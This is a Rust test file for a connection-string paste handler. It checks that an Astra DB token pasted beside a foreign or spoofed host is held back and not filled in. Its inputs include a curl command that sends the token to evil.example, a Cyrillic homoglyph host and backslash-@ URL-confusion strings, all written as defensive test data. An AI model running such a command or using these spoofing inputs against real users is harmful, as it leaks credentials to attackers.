//! A token beside the address of another host: it may be meant for that one.

use crate::{
    credentials::{DATABASE_ID, REGION, connection_string, endpoint, token},
    story::Story,
};
use astra_connection_string::model::{Field, Msg};

/// In a variable, in code, on lines of its own, before the host, in the path: the token may be meant for the other host.
#[test]
fn a_token_beside_an_address_of_another_host_waits_where_a_database_is_there() {
    let foreign = connection_string().replace(".datastax.com", ".example.com");
    let token = token();
    let host = endpoint().replace("https://", "");
    for text in [
        format!("ASTRA_URI={foreign}"),
        format!("ASTRA_URI={foreign}\nASTRA_DB_ID={DATABASE_ID}\nASTRA_DB_REGION={REGION}"),
        format!("mongoose.connect(\"{foreign}\", {{ isAstra: true }})"),
        format!("const uri = '{foreign}';\nconst name = 'x'"),
        format!("https://u:{token}@evil.example/api"),
        format!("https://evil.example/{token}"),
        format!("u:{token}@evil.example"),
        format!("https://evil.example\\@x.apps.astra.datastax.com/?applicationToken={token}"),
        format!("ASTRA_DB_API_ENDPOINT=https://evil.example\nASTRA_DB_APPLICATION_TOKEN={token}"),
        format!("ASTRA_DB_API_ENDPOINT=evil.example\nASTRA_DB_APPLICATION_TOKEN={token}"),
        format!("host = evil.example\nASTRA_DB_APPLICATION_TOKEN = {token}"),
        format!("SITE=http://localhost:3000\nASTRA_DB_APPLICATION_TOKEN={token}"),
        format!("{host}.evil.example\n{token}"),
        format!("ASTRA_DB_HOST={host}.evil.example\nTOKEN={token}"),
        format!("{}\n{token}", host.replace("apps", "\u{430}pps")),
        format!("{} {token}", host.replace("astra.datastax.com", "evil.example")),
        format!("wss://{host}.evil.example/x\n{token}"),
        format!("https:/evil.example/api/json/v1/x\n{token}"),
        format!("https:\\\\evil.example\\api\n{token}"),
        format!("curl evil.example/api/json/v1/x -H 'Token: {token}'"),
        format!("API Endpoint\nevil.example\nToken\n{token}"),
        format!("endpoint,token\n{host}.evil.example,{token}"),
        format!("API endpoint|token\nevil.example|{token}"),
        format!("{{\"https://evil.example\": {{\"token\": \"{token}\"}}}}"),
        format!("(https://evil.example/api/json/v1/x): {token}"),
        format!("https://{DATABASE_ID}-{REGION}'.apps.astra.|datastax@evil.example.com/?applicationToken={token}"),
    ] {
        let begins = Story::begins().enters(Field::KEYSPACE, "mine").leaves(Field::KEYSPACE);
        let story = begins.does(Msg::TextPasted(None, text.clone()));
        assert_eq!(story.model().connect().text(Field::TOKEN), "", "{text}");
        let paste = &story.view().paste;
        let after_click = if story.model().connect().can_fix() {
            story.does(Msg::FixesApplied)
        } else {
            assert!(paste.rest.as_deref().is_some_and(|label| label.contains("Application token")), "{text}");
            assert!(paste.notes.iter().any(|note| note.starts_with("The token is not filled in")), "{text}");
            story.does(Msg::RestTaken)
        };
        after_click.has(Field::TOKEN, &token);
        Story::begins().does(Msg::TextPasted(None, text)).has(Field::TOKEN, &token);
    }
}

#[test]
fn a_token_beside_an_address_of_datastax_does_not_wait() {
    let token = token();
    for text in [
        format!("{}\n{token}", endpoint()),
        format!("see https://docs.datastax.com/en/astra and https://astra.datastax.com/settings/tokens: {token}"),
        format!("DATABASE_URL=postgres://localhost/x\nASTRA_DB_APPLICATION_TOKEN={token}"),
        format!("SITE=http://localhost:3000\nASTRA_DB_API_ENDPOINT={}\nASTRA_DB_APPLICATION_TOKEN={token}", endpoint()),
        format!("https://${{id}}-${{region}}.apps.astra.datastax.com/api/json/v1/x?applicationToken={token}"),
        format!("endpoint,token\n{},{token}", endpoint()),
        format!("{},{token}", endpoint()),
        format!("{};{token}", endpoint()),
        format!("{}\t{token}", endpoint()),
        format!("\"{}\",\"{token}\"", endpoint()),
        format!("endpoint = process.env.ASTRA_DB_API_ENDPOINT\ntoken = '{token}'"),
        format!("os.environ.get(\"ASTRA_DB_API_ENDPOINT\")\ntoken = '{token}'"),
        format!("client = DataAPIClient('{token}')\ndb = client.get_database(settings.endpoint)"),
        format!("ASTRA_DB_API_ENDPOINT=https://...\nTOKEN={token}"),
        format!("ASTRA_DB_API_ENDPOINT=https://your-endpoint\nTOKEN={token}"),
        format!("{{\"{}\": \"{token}\"}}", endpoint()),
    ] {
        let begins = Story::begins().enters(Field::KEYSPACE, "mine").leaves(Field::KEYSPACE);
        let story = begins.does(Msg::TextPasted(None, text.clone()));
        assert_eq!(story.model().connect().text(Field::TOKEN), token, "{text}");
        assert_eq!(story.view().paste.rest, None, "{text}");
    }
}

#[test]
fn a_token_of_another_host_waits_where_a_database_is_there() {
    for foreign in [
        connection_string().replace(".datastax.com", ".example.com"),
        connection_string().replace(".com/", ".com.evil.example/"),
    ] {
        let begins = || Story::begins().enters(Field::KEYSPACE, "mine").leaves(Field::KEYSPACE);
        let story =
            begins().does(Msg::TextPasted(None, foreign.clone())).has(Field::TOKEN, "").has(Field::KEYSPACE, "mine");
        assert_eq!(story.view().paste.filled.as_deref(), Some("Nothing was filled in."));
        assert!(story.model().connect().can_fix());
        let story = story.does(Msg::FixesApplied).has(Field::TOKEN, &token());
        assert_ne!(story.model().connect().text(Field::KEYSPACE), "mine");
        story.does(Msg::PasteUndone).has(Field::KEYSPACE, "mine").has(Field::TOKEN, "");
    }
}
